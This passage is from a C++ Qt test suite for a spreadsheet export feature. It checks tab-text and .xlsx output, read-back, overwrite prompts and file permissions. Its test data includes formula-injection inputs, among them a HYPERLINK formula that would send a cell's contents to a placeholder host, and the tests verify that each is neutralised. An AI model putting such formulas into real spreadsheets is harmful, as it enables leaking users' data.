// Grid export: the written files read back by real readers (Python's csv module with the
// spreadsheet dialect, openpyxl, Gnumeric's ssconvert where installed), the Save-As and
// overwrite questions, read-only and permission handling, and failures that say what failed.
#include "exporttable.h"
#include "gridroutines.h"
#include "ini.h"
#include "prompts.h"
#include "spreadgrid.h"
#include "tabtext.h"
#include "testmain.h"
#include "xlsxfile.h"
#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QStandardPaths>
#include <csignal>
#include <memory>
#include <sys/resource.h>
#include <sys/stat.h>

namespace {
const QByteArray kBom("\xEF\xBB\xBF");
const QString kXls = QStringLiteral("Excel Files (*.xls)");
const QString kXlsx = QStringLiteral("Excel 통합 문서 (*.xlsx)");

// 번호 | 이름 | (hidden) 비고 | 확인 (check box "선택")
std::unique_ptr<SpreadGrid> boardGrid(const QList<QStringList>& rows) {
    auto g = std::make_unique<SpreadGrid>();
    g->setMaxCols(4);
    g->SetText(1, 0, QStringLiteral(" 번호 "));
    g->SetText(2, 0, QStringLiteral("이름"));
    g->SetText(3, 0, QStringLiteral("비고"));
    g->SetText(4, 0, QStringLiteral("확인"));
    g->setColWidth(3, 0);
    g->setCellType(4, CellKind::CheckBox);
    g->setTypeCheckText(4, QStringLiteral("선택"));
    g->setMaxRows(int(rows.size()));
    for (int r = 0; r < rows.size(); ++r)
        for (int c = 0; c < rows[r].size() && c < 3; ++c)
            g->SetText(c + 1, r + 1, rows[r][c]);
    if (!rows.isEmpty()) g->setChecked(4, 1, true);
    return g;
}

// A grid with the given headers, widths (character units, 0 hides) and rows.
std::unique_ptr<SpreadGrid> listGrid(const QStringList& headers, const QList<double>& widths,
                                     const QList<QStringList>& rows) {
    auto g = std::make_unique<SpreadGrid>();
    g->setMaxCols(int(headers.size()));
    for (int c = 0; c < headers.size(); ++c) {
        g->SetText(c + 1, 0, headers[c]);
        if (c < widths.size()) g->setColWidth(c + 1, widths[c]);
    }
    for (const QStringList& row : rows)
        g->AppendRow(row);
    return g;
}

QByteArray readAll(const QString& path) {
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

void writeFile(const QString& path, const QByteArray& bytes) {
    QFile f(path);
    QVERIFY(f.open(QIODevice::WriteOnly));
    f.write(bytes);
}

// The system's Python, which has the Debian packages the install script adds.
QString python() {
    QString p = QStandardPaths::findExecutable(QStringLiteral("python3"), {QStringLiteral("/usr/bin")});
    return p.isEmpty() ? QStandardPaths::findExecutable(QStringLiteral("python3")) : p;
}

// Reads a file the way spreadsheet programs read delimited text (quotes per RFC 4180) or an
// .xlsx with openpyxl, and answers JSON.
const char* const kReader = R"PY(
import csv, datetime, json, sys
mode, path = sys.argv[1], sys.argv[2]
if mode in ("tab", "csv"):
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f, dialect="excel-tab" if mode == "tab" else "excel"))
    print(json.dumps(rows, ensure_ascii=False))
else:
    import openpyxl
    ws = openpyxl.load_workbook(path).active
    def value(v):
        return v.isoformat(sep=" ") if isinstance(v, datetime.datetime) else v
    print(json.dumps({
        "freeze": ws.freeze_panes,
        "filter": ws.auto_filter.ref,
        "widths": {k: d.width for k, d in ws.column_dimensions.items()},
        "rows": [[[c.data_type, value(c.value), c.number_format, bool(c.font.b)] for c in row]
                 for row in ws.iter_rows()],
    }, ensure_ascii=False))
)PY";

QJsonDocument readBack(const QString& mode, const QString& path) {
    QProcess p;
    p.start(python(), {QStringLiteral("-c"), QString::fromUtf8(kReader), mode, path});
    if (!p.waitForFinished(60000) || p.exitCode() != 0) {
        qWarning() << p.readAllStandardError();
        return {};
    }
    return QJsonDocument::fromJson(p.readAllStandardOutput());
}

bool hasOpenpyxl() {
    if (python().isEmpty()) return false;
    return QProcess::execute(python(), {QStringLiteral("-c"), QStringLiteral("import openpyxl")}) == 0;
}

QList<QStringList> textRows(const QJsonDocument& doc) {
    QList<QStringList> rows;
    for (const QJsonValue& row : doc.array()) {
        QStringList cells;
        for (const QJsonValue& cell : row.toArray())
            cells << cell.toString();
        rows << cells;
    }
    return rows;
}

// What Gnumeric shows for each cell of the file, as CSV rows.
QList<QStringList> throughGnumeric(const QString& path, const QString& dir) {
    const QString csv = dir + QStringLiteral("/gnumeric.csv");
    QFile::remove(csv);
    QProcess p;
    p.start(QStringLiteral("ssconvert"), {QStringLiteral("--export-type=Gnumeric_stf:stf_csv"), path, csv});
    if (!p.waitForFinished(60000) || p.exitCode() != 0) return {};
    return textRows(readBack(QStringLiteral("csv"), csv));
}

QString unzipped(const QString& path, const QString& entry) {
    QProcess unzip;
    unzip.start(QStringLiteral("unzip"), {QStringLiteral("-p"), path, entry});
    unzip.waitForFinished();
    return QString::fromUtf8(unzip.readAllStandardOutput());
}

QString lf(QString text) {
    return text.replace(QStringLiteral("\r\n"), QStringLiteral("\n"));
}

mode_t modeOf(const QString& path) {
    struct stat st {};
    ::stat(QFile::encodeName(path).constData(), &st);
    return st.st_mode & 07777;
}

// A list whose texts hardly repeat, so its files stay large after compression: 번호, a
// 64-character text from a simple generator, and an amount.
ExportTable bulkyTable(int rows) {
    ExportTable table;
    table.rows << QStringList{QStringLiteral("번호"), QStringLiteral("상품명"), QStringLiteral("금액")};
    quint32 seed = 12345;
    for (int i = 1; i <= rows; ++i) {
        QString text;
        for (int k = 0; k < 64; ++k) {
            seed = seed * 1664525u + 1013904223u;
            text += QChar(u'가' + (seed >> 20) % 400);
        }
        table.rows << QStringList{QString::number(i), text, QString::number(1000 + i)};
    }
    return table;
}

// Texts and dates the workbook writer encodes itself: characters of every UTF-8 length, what
// XML escapes, blanks at the ends, characters a cell cannot hold, and days on both sides of
// the 29th of February 1900 that spreadsheets count. `shown` and `when` are what a reader
// gets back.
struct EncodedCell {
    const char* tag;
    QString text, shown, date, when;
};
const QList<EncodedCell>& encodedCells() {
    static const QList<EncodedCell> cells{
        {"two-byte", QStringLiteral("café ©"), QStringLiteral("café ©"), QStringLiteral("1900-01-01"),
         QStringLiteral("1900-01-01 00:00:00")},
        {"four-byte", QStringLiteral("📦 화물 😀"), QStringLiteral("📦 화물 😀"), QStringLiteral("1900-02-28"),
         QStringLiteral("1900-02-28 00:00:00")},
        {"half a pair", QString(QChar(0xD83D)) + QStringLiteral("x"), QStringLiteral("\uFFFDx"),
         QStringLiteral("1900-03-01"), QStringLiteral("1900-03-01 00:00:00")},
        {"markup", QStringLiteral("<b>a & b</b>"), QStringLiteral("<b>a & b</b>"),
         QStringLiteral("2024-02-29 23:59:59"), QStringLiteral("2024-02-29 23:59:59")},
        {"blanks at the ends", QStringLiteral(" 앞뒤 공백 "), QStringLiteral(" 앞뒤 공백 "),
         QStringLiteral("1999-12-31 12:30"), QStringLiteral("1999-12-31 12:30:00")},
        {"control characters",
         QStringLiteral("a\x01"
                        "b\x1F"
                        "c\uFFFE"
                        "d"),
         QStringLiteral("abcd"), QStringLiteral("2024-01-01 18:00:00"),
         QStringLiteral("2024-01-01 18:00:00")},
    };
    return cells;
}

// Product texts a call-centre agent types or pastes: what a spreadsheet program would run,
// split, shorten or turn into a date. `marked`: the tab text carries a leading ' so the
// program keeps the text as text.
struct HostileCell {
    const char* tag;
    QString cell;
    bool marked;
};
const QList<HostileCell>& hostileCells() {
    static const QList<HostileCell> cells{
        {"hyperlink formula", QStringLiteral("=HYPERLINK(\"http://x.example/?x=\"&A1,\"클릭\")"), true},
        {"sum formula", QStringLiteral("=1+1"), true},
        {"plus", QStringLiteral("+82 10-1234-5678"), true},
        {"minus", QStringLiteral("-2+3"), true},
        {"at", QStringLiteral("@SUM(1)"), true},
        {"blank before formula", QStringLiteral("  =1+1"), true},
        {"tab before formula", QStringLiteral("\t=1+1"), true},
        {"leading quote", QStringLiteral("\"특수\" 화물 5톤"), false},
        {"quote inside", QStringLiteral("A\"급 화물"), false},
        {"tab inside", QStringLiteral("1층\t2층"), false},
        {"CR LF inside", QStringLiteral("첫 줄\r\n둘째 줄"), false},
        {"LF inside", QStringLiteral("첫 줄\n둘째 줄"), false},
        {"leading zeros", QStringLiteral("00123"), true},
        {"phone", QStringLiteral("0101234567"), true},
        {"16 digits", QStringLiteral("1234567890123456"), true},
        {"12-digit code", QStringLiteral("123456789012"), true},
        {"11-digit count", QStringLiteral("12345678901"), false},
        {"fraction", QStringLiteral("3/4"), true},
        {"leading apostrophe", QStringLiteral("'4번 창고"), true},
        {"negative number", QStringLiteral("-5000"), false},
        {"plain text", QStringLiteral("철근 5톤"), false},
    };
    return cells;
}

void hostileCellsData() {
    QTest::addColumn<int>("index");
    for (int i = 0; i < hostileCells().size(); ++i)
        QTest::newRow(hostileCells()[i].tag) << i;
}

// One list holds every hostile cell, a row each, beside an amount, an owner's name and a date
// (file row i + 2 holds cell i), so one export and one read-back serve every case.
const QStringList kHostileHeaders{QStringLiteral("제품정보"), QStringLiteral("금액"),
                                  QStringLiteral("차주명"), QStringLiteral("날짜")};
QStringList hostileRow(int i) {
    return {hostileCells()[i].cell, QString::number(150000 + i), QStringLiteral("차주%1").arg(i),
            QStringLiteral("2024-01-%1").arg(i + 1, 2, 10, QLatin1Char('0'))};
}
std::unique_ptr<SpreadGrid> hostileGrid() {
    QList<QStringList> rows;
    for (int i = 0; i < hostileCells().size(); ++i)
        rows << hostileRow(i);
    return listGrid(kHostileHeaders, {30, 10, 10, 10}, rows);
}
} // namespace

class tst_GridExport : public QObject {
    Q_OBJECT
    QString m_dir;
    // What the readers made of the one export of every hostile cell.
    QList<QStringList> m_tabRows, m_gnumericRows;
    QJsonArray m_workbookRows, m_encodedRows;

    // Exports through the Save-As answer `chosen` with the given filter; the written path.
    QString exportAs(const SpreadGrid& grid, const QString& chosen, const QString& filter) {
        PromptScript script;
        script.answerSaveAs(chosen, filter);
        ExportGridToExcel(grid, QStringLiteral("목록"));
        if (!script.unexpected().isEmpty() || script.asked().back().kind != PromptKind::Notice) return {};
        const QString done = QStringLiteral(" 엑셀파일이 생성되었습니다.");
        return script.asked().back().text.chopped(done.size());
    }

private slots:
    void init() {
        m_dir =
            ProgramFolder() + QStringLiteral("/export-") + QString::fromLatin1(QTest::currentTestFunction());
        QDir(m_dir).removeRecursively();
        QVERIFY(QDir().mkpath(m_dir));
    }

    void tabSeparatedFile_data() {
        QTest::addColumn<QList<QStringList>>("rows");
        QTest::addColumn<QByteArray>("expected");
        QTest::newRow("hidden column left out, check box as its caption")
            << QList<QStringList>{{"1", "김철수", "숨은 메모"}, {"2", "박영희", ""}}
            << QByteArray("번호\t이름\t확인\r\n1\t김철수\t선택\r\n2\t박영희\t선택\r\n");
        QTest::newRow("empty grid is one header line")
            << QList<QStringList>{} << QByteArray("번호\t이름\t확인\r\n");
        QTest::newRow("tab and line break kept inside a quoted field")
            << QList<QStringList>{{"3", "서울\t강남\r\n역삼동", "x"}}
            << QByteArray("번호\t이름\t확인\r\n3\t\"서울\t강남\r\n역삼동\"\t선택\r\n");
        QTest::newRow("leading blanks kept, quotes doubled")
            << QList<QStringList>{{"4", "  \"㈜한빛\"", ""}}
            << QByteArray("번호\t이름\t확인\r\n4\t\"  \"\"㈜한빛\"\"\"\t선택\r\n");
    }
    void tabSeparatedFile() {
        QFETCH(QList<QStringList>, rows);
        QFETCH(QByteArray, expected);
        auto grid = boardGrid(rows);
        const QString chosen = m_dir + QStringLiteral("/오더목록");
        PromptScript script;
        script.answerSaveAs(chosen, kXls);
        ExportGridToExcel(*grid, QStringLiteral("오더목록_20240105"));

        QCOMPARE(readAll(chosen + QStringLiteral(".xls")), kBom + expected);
        QCOMPARE(script.texts(),
                 QStringList({QString(), chosen + QStringLiteral(".xls 엑셀파일이 생성되었습니다.")}));
        const PromptRecord& saveAs = script.asked().front();
        QCOMPARE(saveAs.kind, PromptKind::SaveAs);
        QCOMPARE(saveAs.defaultValue, QStringLiteral("오더목록_20240105"));
        QCOMPARE(script.asked().back().kind, PromptKind::Notice);
        // The grid on the screen is left as it was.
        QCOMPARE(grid->MaxCols(), 4);
        QCOMPARE(grid->ColWidth(3), 0.0);
        QCOMPARE(grid->CellType(4, 1), CellKind::CheckBox);
        QCOMPARE(grid->MaxRows(), int(rows.size()));
    }

    // The workbook is offered first and is what a name without extension becomes.
    void filterOrder_data() {
        QTest::addColumn<QString>("answer");
        QTest::addColumn<QString>("filter");
        QTest::addColumn<QString>("written");
        QTest::newRow("first filter, no extension") << "목록"
                                                    << ""
                                                    << "목록.xlsx";
        QTest::newRow("tab text chosen") << "목록" << kXls << "목록.xls";
        QTest::newRow("typed .xls wins over the filter") << "목록.xls" << kXlsx << "목록.xls";
    }
    void filterOrder() {
        QFETCH(QString, answer);
        QFETCH(QString, filter);
        QFETCH(QString, written);
        auto grid = boardGrid({{"1", "김철수", ""}});
        PromptScript script;
        script.answerSaveAs(m_dir + QLatin1Char('/') + answer, filter);
        ExportGridToExcel(*grid, QStringLiteral("목록"));
        QCOMPARE(script.asked().front().filter, kXlsx + QStringLiteral(";;") + kXls);
        QCOMPARE(QDir(m_dir).entryList(QDir::Files | QDir::Hidden), QStringList{written});
        QCOMPARE(readAll(m_dir + QLatin1Char('/') + written).startsWith("PK"),
                 written.endsWith(QLatin1String("x")));
    }

    // Columns are dropped because they are hidden, not because of what they are titled.
    void visibleColumnTitledLikeMarker() {
        auto grid = listGrid({"DELETED", "숨김", "금액"}, {10, 0, 10}, {{"a", "b", "1000"}});
        const QString chosen = m_dir + QStringLiteral("/x.xls");
        QCOMPARE(exportAs(*grid, chosen, kXls), chosen);
        QCOMPARE(readAll(chosen), kBom + QByteArray("DELETED\t금액\r\na\t1000\r\n"));
    }

    // Read back as a spreadsheet program reads delimited text: every row keeps its columns,
    // the text is intact (less the ' that marks it as text) and nothing starts a formula.
    void tabTextReadBack_data() { hostileCellsData(); }
    void tabTextReadBack() {
        QFETCH(int, index);
        if (python().isEmpty()) QSKIP("python3 is not installed");
        if (m_tabRows.isEmpty()) {
            const QString dir = ProgramFolder() + QStringLiteral("/hostile-xls");
            QVERIFY(QDir().mkpath(dir));
            auto grid = hostileGrid();
            const QString path = exportAs(*grid, dir + QStringLiteral("/목록.xls"), kXls);
            QVERIFY(!path.isEmpty());
            m_tabRows = textRows(readBack(QStringLiteral("tab"), path));
            if (!QStandardPaths::findExecutable(QStringLiteral("ssconvert")).isEmpty())
                m_gnumericRows = throughGnumeric(path, dir);
        }
        const HostileCell& hostile = hostileCells()[index];
        QCOMPARE(m_tabRows.size(), hostileCells().size() + 1);
        QCOMPARE(m_tabRows[0], kHostileHeaders);
        const QStringList& row = m_tabRows[index + 1];
        QCOMPARE(row.size(), 4);
        QCOMPARE(row[0], hostile.marked ? QLatin1Char('\'') + hostile.cell : hostile.cell);
        QCOMPARE(row.mid(1), hostileRow(index).mid(1));
        for (const QString& field : row) {
            const QString start = field.trimmed().left(1);
            QVERIFY2(start.isEmpty() || !QStringLiteral("=+@").contains(start), qPrintable(field));
            QVERIFY2(start != QLatin1String("-") || IsPlainNumber(field), qPrintable(field));
        }

        // Gnumeric shows the cell's text, runs nothing, and the amount, the name and the date
        // stay in their columns.
        if (m_gnumericRows.isEmpty()) QSKIP("gnumeric (ssconvert) is not installed");
        QCOMPARE(m_gnumericRows.size(), hostileCells().size() + 1);
        const QStringList& shown = m_gnumericRows[index + 1];
        QCOMPARE(shown.size(), 4);
        QCOMPARE(lf(shown[0]), lf(hostile.cell));
        QCOMPARE(shown.mid(1, 2), hostileRow(index).mid(1, 2));
    }

    // The same cells in the workbook: texts as texts, never a formula, the amount a
    // number and the date a date, read back cell by cell.
    void workbookReadBack_data() { hostileCellsData(); }
    void workbookReadBack() {
        QFETCH(int, index);
        if (m_workbookRows.isEmpty()) {
            const QString dir = ProgramFolder() + QStringLiteral("/hostile-xlsx");
            QVERIFY(QDir().mkpath(dir));
            auto grid = hostileGrid();
            const QString path = exportAs(*grid, dir + QStringLiteral("/목록.xlsx"), kXlsx);
            QVERIFY(!path.isEmpty());
            const QString sheet = unzipped(path, QStringLiteral("xl/worksheets/sheet1.xml"));
            QVERIFY(sheet.contains(QStringLiteral("<sheetData>")));
            QVERIFY(!sheet.contains(QStringLiteral("<f>")));
            QVERIFY(!sheet.contains(QStringLiteral("<f ")));
            const QString& strings = sheet; // texts are written in their cells
            QVERIFY(!strings.contains(QStringLiteral("_x000D_")));
            QVERIFY(strings.contains(QStringLiteral("=HYPERLINK(")));
            if (!hasOpenpyxl()) QSKIP("python3-openpyxl is not installed");
            m_workbookRows =
                readBack(QStringLiteral("xlsx"), path).object().value(QStringLiteral("rows")).toArray();
        }
        QCOMPARE(m_workbookRows.size(), hostileCells().size() + 1);
        const QJsonArray row = m_workbookRows[index + 1].toArray();
        QCOMPARE(row.size(), 4);
        // The product column is a text column: every cell a text, exactly as typed (a line
        // break as the spreadsheet's own), none a formula.
        QCOMPARE(row[0].toArray()[0].toString(), QStringLiteral("s"));
        QCOMPARE(row[0].toArray()[1].toString(), lf(hostileCells()[index].cell));
        QCOMPARE(row[1].toArray()[0].toString(), QStringLiteral("n"));
        QCOMPARE(row[1].toArray()[1].toDouble(), 150000.0 + index);
        QCOMPARE(row[1].toArray()[2].toString(), QStringLiteral("#,##0"));
        QCOMPARE(row[2].toArray()[1].toString(), hostileRow(index)[2]);
        QCOMPARE(row[3].toArray()[0].toString(), QStringLiteral("d"));
        QCOMPARE(row[3].toArray()[1].toString(), hostileRow(index)[3] + QStringLiteral(" 00:00:00"));
    }

    void workbookEncodingReadBack_data() {
        QTest::addColumn<int>("index");
        for (int i = 0; i < encodedCells().size(); ++i)
            QTest::newRow(encodedCells()[i].tag) << i;
    }
    void workbookEncodingReadBack() {
        QFETCH(int, index);
        if (!hasOpenpyxl()) QSKIP("python3-openpyxl is not installed");
        if (m_encodedRows.isEmpty()) {
            ExportTable table;
            table.rows << QStringList{QStringLiteral("비고"), QStringLiteral("날짜")};
            for (const EncodedCell& e : encodedCells())
                table.rows << QStringList{e.text, e.date};
            const QString path = m_dir + QStringLiteral("/encoded.xlsx");
            QVERIFY(WriteXlsxFile(path, table).written);
            m_encodedRows =
                readBack(QStringLiteral("xlsx"), path).object().value(QStringLiteral("rows")).toArray();
        }
        QCOMPARE(m_encodedRows.size(), encodedCells().size() + 1);
        const QJsonArray row = m_encodedRows[index + 1].toArray();
        QCOMPARE(row[0].toArray()[1].toString(), encodedCells()[index].shown);
        QCOMPARE(row[1].toArray()[0].toString(), QStringLiteral("d"));
        QCOMPARE(row[1].toArray()[1].toString(), encodedCells()[index].when);
    }

    // A board-like list: widths, frozen bold header with a filter, number and date formats,
    // codes and phone numbers as texts.
    void workbookShape() {
        const QStringList headers{"날짜",         "제품코드", "차주연락처", "사무실", "금액",  "희망톤수",
                                  "상차요청일시", "배차시간", "메모",       "건수",   "상품명"};
        // 날짜, 금액 and 배차시간 narrower on the screen than their dates and amounts.
        const QList<double> widths{7, 14, 12, 9, 6, 6, 16, 12, 0, 5, 25};
        const QList<QStringList> rows{{"2024-01-05", "123456789012", "0101234567", "5551234", "150000", "2.5",
                                       "2024-01-05 09:00", "2024-01-05 13:22:10", "숨은 메모", "3",
                                       "첫 줄\r\n둘째 줄"},
                                      {"2024-01-06", "987654321098", "0311234567", "5559876", "1200000", "11",
                                       "2024-01-06 14:30", "2024-01-06 08:05:00.250", "", "12", "철근"}};
        auto grid = listGrid(headers, widths, rows);
        const QString path = exportAs(*grid, m_dir + QStringLiteral("/오더.xlsx"), kXlsx);
        QVERIFY(!path.isEmpty());

        const QString sheet = unzipped(path, QStringLiteral("xl/worksheets/sheet1.xml"));
        QVERIFY(sheet.contains(QStringLiteral("<pane ySplit=\"1\" topLeftCell=\"A2\"")));
        QVERIFY(sheet.contains(QStringLiteral("<autoFilter ref=\"A1:J3\"")));
        QVERIFY(!sheet.contains(QStringLiteral("<f>")));
        const QString styles = unzipped(path, QStringLiteral("xl/styles.xml"));
        for (const char* code : {"#,##0", "yyyy-mm-dd", "yyyy-mm-dd hh:mm", "yyyy-mm-dd hh:mm:ss"})
            QVERIFY2(styles.contains(QStringLiteral("formatCode=\"%1\"").arg(QString::fromUtf8(code))), code);
        const QString& strings = sheet; // texts are written in their cells
        for (const char* s : {"날짜", "123456789012", "0101234567", "5551234", "첫 줄\n둘째 줄"})
            QVERIFY2(strings.contains(QString::fromUtf8(s)), s);
        QVERIFY(!strings.contains(QStringLiteral("숨은 메모")));

        if (!hasOpenpyxl()) QSKIP("python3-openpyxl is not installed");
        const QJsonObject book = readBack(QStringLiteral("xlsx"), path).object();
        QCOMPARE(book.value(QStringLiteral("freeze")).toString(), QStringLiteral("A2"));
        QCOMPARE(book.value(QStringLiteral("filter")).toString(), QStringLiteral("A1:J3"));
        // Each column at least as wide in the spreadsheet as on the screen (a stored width w
        // shows 7w pixels at the default font), texts exactly so; dates and amounts wide enough
        // to show (at 7 pixels a character and 5 of margin), never "####".
        const QJsonObject colWidths = book.value(QStringLiteral("widths")).toObject();
        const QList<int> visible{0, 1, 2, 3, 4, 5, 6, 7, 9, 10};
        const QMap<QChar, int> shows{{u'A', int(QStringLiteral("2024-01-05").size())},
                                     {u'E', int(QStringLiteral("1,200,000").size())},
                                     {u'G', int(QStringLiteral("2024-01-05 09:00").size())},
                                     {u'H', int(QStringLiteral("2024-01-05 13:22:10").size())}};
        for (int i = 0; i < visible.size(); ++i) {
            const QChar letter(u'A' + i);
            const double px = colWidths.value(QString(letter)).toDouble() * 7;
            const double grid = widths[visible[i]] * SpreadGrid::PixelsPerCharUnit;
            const QString where = QString(letter) + QLatin1Char(' ') + QString::number(px);
            QVERIFY2(px >= grid - 1, qPrintable(where));
            if (shows.contains(letter)) QVERIFY2(px >= shows[letter] * 7 + 5, qPrintable(where));
        }
        for (const char* wideText : {"B", "J"}) { // wider on the screen than their headers
            const double px = colWidths.value(QLatin1String(wideText)).toDouble() * 7;
            QVERIFY(std::abs(px - widths[wideText[0] == 'B' ? 1 : 10] * SpreadGrid::PixelsPerCharUnit) <= 1);
        }

        const QJsonArray cells = book.value(QStringLiteral("rows")).toArray();
        QCOMPARE(cells.size(), 3);
        for (const QJsonValue& h : cells[0].toArray()) {
            QCOMPARE(h.toArray()[0].toString(), QStringLiteral("s"));
            QVERIFY(h.toArray()[3].toBool()); // bold
        }
        // type, value, number format of row 2 and row 3, column by column
        struct Expect {
            const char* type;
            const char* value;
            const char* format;
        };
        const QList<QList<Expect>> expected{{{"d", "2024-01-05 00:00:00", "yyyy-mm-dd"},
                                             {"s", "123456789012", "General"},
                                             {"s", "0101234567", "General"},
                                             {"s", "5551234", "General"},
                                             {"n", "150000", "#,##0"},
                                             {"n", "2.5", "General"},
                                             {"d", "2024-01-05 09:00:00", "yyyy-mm-dd hh:mm"},
                                             {"d", "2024-01-05 13:22:10", "yyyy-mm-dd hh:mm:ss"},
                                             {"n", "3", "#,##0"},
                                             {"s", "첫 줄\n둘째 줄", "General"}},
                                            {{"d", "2024-01-06 00:00:00", "yyyy-mm-dd"},
                                             {"s", "987654321098", "General"},
                                             {"s", "0311234567", "General"},
                                             {"s", "5559876", "General"},
                                             {"n", "1200000", "#,##0"},
                                             {"n", "11", "#,##0"},
                                             {"d", "2024-01-06 14:30:00", "yyyy-mm-dd hh:mm"},
                                             {"d", "2024-01-06 08:05:00.250000", "yyyy-mm-dd hh:mm:ss"},
                                             {"n", "12", "#,##0"},
                                             {"s", "철근", "General"}}};
        for (int r = 0; r < 2; ++r) {
            const QJsonArray row = cells[r + 1].toArray();
            QCOMPARE(row.size(), 10);
            for (int c = 0; c < 10; ++c) {
                const QJsonArray cell = row[c].toArray();
                const Expect& e = expected[r][c];
                const QString where = QStringLiteral("row %1 col %2").arg(r + 2).arg(c + 1);
                QVERIFY2(cell[0].toString() == QLatin1String(e.type), qPrintable(where));
                const QString value =
                    cell[1].isDouble() ? QString::number(cell[1].toDouble(), 'g', 15) : cell[1].toString();
                QVERIFY2(value == QString::fromUtf8(e.value),
                         qPrintable(where + QStringLiteral(": ") + value));
                QVERIFY2(cell[2].toString() == QLatin1String(e.format),
                         qPrintable(where + QStringLiteral(": ") + cell[2].toString()));
            }
        }
    }

    void columnKinds_data() {
        QTest::addColumn<QString>("header");
        QTest::addColumn<QStringList>("cells");
        QTest::addColumn<int>("kind");
        const int text = int(ExportKind::Text), number = int(ExportKind::Number),
                  amount = int(ExportKind::Amount), date = int(ExportKind::Date),
                  dateTime = int(ExportKind::DateTime);
        QTest::newRow("amounts by header") << "운송비" << QStringList{"150000", "1200000"} << amount;
        QTest::newRow("amount column with a text cell") << "금액" << QStringList{"150000", "협의"} << amount;
        QTest::newRow("counts") << "건수" << QStringList{"3", "12", ""} << number;
        QTest::newRow("one long count is still a count")
            << "중량" << QStringList{"1500000", "25000"} << number;
        QTest::newRow("codes of one length") << "품목" << QStringList{"123456789012", "987654321098"} << text;
        QTest::newRow("phones of one length") << "사무실" << QStringList{"5551234", "5559876"} << text;
        QTest::newRow("identifier header") << "주선사번호" << QStringList{"12", "345"} << text;
        QTest::newRow("leading zero") << "수량" << QStringList{"12", "012"} << text;
        QTest::newRow("dates") << "날짜" << QStringList{"2024-01-05", "", "2023-12-31"} << date;
        QTest::newRow("date-times with dates")
            << "일시" << QStringList{"2024-01-05 09:00", "2024-01-05"} << dateTime;
        QTest::newRow("impossible date") << "날짜" << QStringList{"2024-02-30"} << text;
        QTest::newRow("month-day only") << "배차" << QStringList{"01-05 13:22"} << text;
        QTest::newRow("before 1900") << "날짜" << QStringList{"1899-12-31"} << text;
        QTest::newRow("empty column") << "비고" << QStringList{"", ""} << text;
        QTest::newRow("mixed text") << "톤수" << QStringList{"2.5", "2.5톤"} << text;
    }
    void columnKinds() {
        QFETCH(QString, header);
        QFETCH(QStringList, cells);
        ExportTable table;
        table.rows << QStringList{header};
        for (const QString& c : cells)
            table.rows << QStringList{c};
        QTEST(int(InferColumnKind(table, 0)), "kind");
    }

    // A screen that knows its column better names its kind; the grid's hidden columns count.
    void hintOverridesInference() {
        if (!hasOpenpyxl()) QSKIP("python3-openpyxl is not installed");
        auto grid = listGrid({"숨김", "차량", "금액"}, {0, 10, 10}, {{"x", "1234", "5000"}});
        PromptScript script;
        script.answerSaveAs(m_dir + QStringLiteral("/h.xlsx"));
        ExportGridToExcel(*grid, QStringLiteral("h"), {ExportKind::Auto, ExportKind::Text});
        const QJsonArray row = readBack(QStringLiteral("xlsx"), m_dir + QStringLiteral("/h.xlsx"))
                                   .object()[QStringLiteral("rows")]
                                   .toArray()[1]
                                   .toArray();
        QCOMPARE(row[0].toArray()[0].toString(), QStringLiteral("s"));
        QCOMPARE(row[1].toArray()[0].toString(), QStringLiteral("n"));
    }

    void existingFile_data() {
        QTest::addColumn<bool>("overwrite");
        QTest::newRow("아니오 writes nothing") << false;
        QTest::newRow("예 replaces it") << true;
    }
    void existingFile() {
        QFETCH(bool, overwrite);
        const QString chosen = m_dir + QStringLiteral("/목록.XLS");
        writeFile(chosen, "old");
        auto grid = boardGrid({{"1", "김철수", ""}});
        PromptScript script;
        script.answerSaveAs(chosen, kXls);
        if (overwrite)
            script.answerYes();
        else
            script.answerNo();
        ExportGridToExcel(*grid, QStringLiteral("목록"));

        QCOMPARE(script.asked().at(1).kind, PromptKind::Question);
        QCOMPARE(script.asked().at(1).text, QStringLiteral("이미 존재하는 파일입니다. 덮어쓸까요?"));
        if (overwrite) {
            QCOMPARE(readAll(chosen), kBom + QByteArray("번호\t이름\t확인\r\n1\t김철수\t선택\r\n"));
            QCOMPARE(script.asked().size(), size_t(3));
        } else {
            QCOMPARE(readAll(chosen), QByteArray("old"));
            QCOMPARE(script.asked().size(), size_t(2));
        }
        QCOMPARE(QDir(m_dir).entryList(QDir::Files | QDir::Hidden), QStringList{QStringLiteral("목록.XLS")});
    }

    // A read-only file is refused before any question and stays as it was; a replaced file
    // keeps its permissions; a new one gets the usual ones.
    void targetPermissions_data() {
        QTest::addColumn<QString>("filter");
        QTest::addColumn<int>("before"); // -1: no file yet
        QTest::addColumn<bool>("refused");
        QTest::newRow("xls read-only") << kXls << 0444 << true;
        QTest::newRow("xlsx read-only") << kXlsx << 0444 << true;
        QTest::newRow("xlsx owner may read only") << kXlsx << 0464 << true;
        QTest::newRow("xls shared with the group") << kXls << 0664 << false;
        QTest::newRow("xlsx private") << kXlsx << 0600 << false;
        QTest::newRow("xlsx new file") << kXlsx << -1 << false;
        QTest::newRow("xls new file") << kXls << -1 << false;
    }
    void targetPermissions() {
        QFETCH(QString, filter);
        QFETCH(int, before);
        QFETCH(bool, refused);
        const QString path =
            m_dir + (filter == kXls ? QStringLiteral("/목록.xls") : QStringLiteral("/목록.xlsx"));
        if (before >= 0) {
            writeFile(path, "old");
            QCOMPARE(::chmod(QFile::encodeName(path).constData(), mode_t(before)), 0);
        }
        auto grid = boardGrid({{"1", "김철수", ""}});
        PromptScript script;
        script.answerSaveAs(path, filter);
        if (before >= 0 && !refused) script.answerYes();
        ExportGridToExcel(*grid, QStringLiteral("목록"));
        QVERIFY(script.unexpected().isEmpty());
        QCOMPARE(script.pendingAnswers(), 0);
        const PromptRecord& last = script.asked().back();
        if (refused) {
            QCOMPARE(script.asked().size(), size_t(2));
            QCOMPARE(last.kind, PromptKind::Refusal);
            QVERIFY2(last.text.contains(QStringLiteral("읽기 전용 파일입니다")), qPrintable(last.text));
            QCOMPARE(readAll(path), QByteArray("old"));
            QCOMPARE(int(modeOf(path)), before);
        } else {
            QCOMPARE(last.kind, PromptKind::Notice);
            QVERIFY(readAll(path) != QByteArray("old"));
            const mode_t mask = ::umask(0);
            ::umask(mask);
            QCOMPARE(int(modeOf(path)), before >= 0 ? before : int(0666 & ~mask));
        }
